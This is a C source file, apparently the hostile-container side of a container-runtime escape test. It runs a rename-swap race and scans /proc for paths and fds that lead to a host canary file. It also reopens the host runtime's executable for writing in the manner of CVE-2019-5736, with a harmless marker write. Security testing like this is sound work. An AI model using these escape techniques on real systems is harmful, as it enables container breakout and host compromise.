// What runs in the hostile container. Each role goes on until it is killed, and prints what it got hold of, one line each.
//
//   attacker flip A B                 exchanges the two names, over and over
//   attacker look CANARY DEVICE INODE stops every process that appears, and looks for a way from it to the host: to the file CANARY by
//                                     what it has open, to the file DEVICE:INODE as its executable, which is then written to
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static const char *canary;
static dev_t host_device;
static ino_t host_inode;
static int host_file = -1;

// Once is enough of each.
static void say(const char *what, const char *more) {
  static char said[64][400];
  char line[400];
  snprintf(line, sizeof line, "%s%.300s\n", what, more);
  for (size_t i = 0; i < sizeof said / sizeof *said; i++) {
    if (strcmp(said[i], line) == 0) return;
    if (said[i][0] != '\0') continue;
    memcpy(said[i], line, sizeof line);
    break;
  }
  fputs(line, stdout);
}

static int flip(const char *one, const char *other) {
  for (;;) {
    if (renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) < 0) return perror("rename"), 1;
  }
}

// A file that is executed cannot be opened for writing; a moment later it can (CVE-2019-5736).
static void overwrite(void) {
  char path[64];
  snprintf(path, sizeof path, "/proc/self/fd/%d", host_file);
  int fd = open(path, O_WRONLY | O_APPEND);
  if (fd < 0) return;
  if (write(fd, "overwritten", 11) == 11) say("wrote to the host's executable", "");
  close(fd);
  close(host_file);
  host_file = -1;
}

static void look_at_executable(const char *process) {
  char path[600], link[300] = "";
  struct stat status;
  snprintf(path, sizeof path, "%s/exe", process);
  ssize_t length = readlink(path, link, sizeof link - 1);
  if (length < 0) return;
  if (strstr(link, "mydocker-shim") != NULL) say("the shim could be looked into: ", link);
  int fd = open(path, O_RDONLY);
  if (fd < 0) return;
  if (fstat(fd, &status) == 0 && status.st_ino == host_inode && status.st_dev == host_device) {
    say("reached the host's executable", "");
    if (host_file < 0) host_file = dup(fd);
  }
  close(fd);
}

static void look_from(const char *where) {
  char path[4096] = "../../../../../../../../../../../../../../../..";
  int fd = open(where, O_PATH | O_DIRECTORY);
  if (fd < 0) return;
  strncat(path, canary, sizeof path - strlen(path) - 1);
  if (faccessat(fd, path, F_OK, 0) == 0) say("reached the host's files through ", strrchr(where, '/'));
  close(fd);
}

static void look_into(const char *process) {
  char path[600];
  look_at_executable(process);
  for (const char *const *name = (const char *const[]){"root", "cwd", NULL}; *name != NULL; name++) {
    snprintf(path, sizeof path, "%s/%s", process, *name);
    look_from(path);
  }
  snprintf(path, sizeof path, "%s/fd", process);
  DIR *directory = opendir(path);
  for (struct dirent *entry; directory != NULL && (entry = readdir(directory)) != NULL;) {
    if (entry->d_name[0] == '.') continue;
    snprintf(path, sizeof path, "%s/fd/%s", process, entry->d_name);
    look_from(path);
  }
  if (directory != NULL) closedir(directory);
}

static int look(void) {
  pid_t self = getpid(), begun[64];
  size_t known = 0;
  bool first = true;
  setvbuf(stdout, NULL, _IOLBF, 0);
  for (;; first = false) {
    DIR *processes = opendir("/proc");
    if (processes == NULL) return perror("/proc"), 1;
    for (struct dirent *entry; (entry = readdir(processes)) != NULL;) {
      pid_t pid = (pid_t)strtol(entry->d_name, NULL, 10);
      bool old = pid <= 0 || pid == self;
      for (size_t i = 0; i < known; i++) old = old || begun[i] == pid;
      if (first && !old && known < 64) begun[known++] = pid;
      if (first || old) continue;
      char process[300];
      snprintf(process, sizeof process, "/proc/%s", entry->d_name);
      kill(pid, SIGSTOP);
      look_into(process);
      kill(pid, SIGCONT);
    }
    closedir(processes);
    if (host_file >= 0) overwrite();
    if (first) say("looking", "");
  }
}

int main(int argc, char **argv) {
  if (argc == 4 && strcmp(argv[1], "flip") == 0) return flip(argv[2], argv[3]);
  if (argc == 5 && strcmp(argv[1], "look") == 0) {
    canary = argv[2];
    host_device = (dev_t)strtoull(argv[3], NULL, 10);
    host_inode = (ino_t)strtoull(argv[4], NULL, 10);
    return look();
  }
  return fputs("usage: attacker flip A B | look CANARY DEVICE INODE\n", stderr), 2;
}
